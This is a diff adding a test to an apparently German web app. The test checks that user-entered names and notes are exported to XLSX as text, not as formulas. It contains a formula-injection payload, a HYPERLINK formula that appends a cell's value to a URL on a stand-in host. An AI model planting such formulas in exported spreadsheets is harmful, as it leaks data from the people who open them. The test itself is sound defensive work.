@@ -131,6 +131,30 @@ def test_xlsx_export_enthaelt_werte_raenge_und_definitionen(ring, client_als):
     assert definitionen["Q_ABH"][6] == "summe(abgeholfen, 12) / summe(widersprueche, 12) * 100"
 
 
+def test_xlsx_export_macht_aus_texten_keine_formeln(ring, client_als, csrf_token):
+    """Was die Koordination als Name oder Hinweis eingibt, bleibt in der Tabelle der Mitglieder
+    Text – auch mit „=“ am Anfang (sonst führte die Tabellenkalkulation es aus)."""
+    koordination = client_als("ring-test")
+    boese = '=HYPERLINK("http://127.0.0.1:9/x?"&A3,"Klick")'
+    antwort = koordination.post(
+        f"/ringe/{ring.id}/kennzahlen",
+        data={
+            "kz-csrf_token": csrf_token(koordination, f"/ringe/{ring.id}/verwaltung"),
+            "kz-code": "K_BOESE", "kz-name": boese, "kz-kategorie": "kosten",
+            "kz-einheit": "euro", "kz-richtung": "niedriger", "kz-formel": "kosten / elb",
+            "kz-gueltig_ab": "2023-01-01", "kz-ba_unterschied": "=1+1",
+        },
+    )  # fmt: skip
+    assert antwort.status_code == 302, antwort.get_data(as_text=True)[:2000]
+    antwort = client_als("traeger").get(f"/ringe/{ring.id}/export.xlsx?monat=2024-11")
+    buch = load_workbook(io.BytesIO(antwort.data))  # nicht read_only: mit data_type
+    kopf = {z.value: z.data_type for z in buch["Werte"][2]}
+    assert kopf[f"K_BOESE {boese} (€)"] == "s"
+    zeile = next(z for z in buch["Definitionen"].iter_rows() if z[0].value == "K_BOESE")
+    assert [(z.value, z.data_type) for z in (zeile[2], zeile[9])] == [(boese, "s"), ("=1+1", "s")]
+    assert all(z.data_type != "f" for b in buch for r in b.iter_rows() for z in r)
+
+
 def test_mitglied_importiert_ringspalten_im_browser(ring, client_als, csrf_token, engine):
     client = client_als("traeger")
     assert "personal" in _text(_seite(client, "/import"))
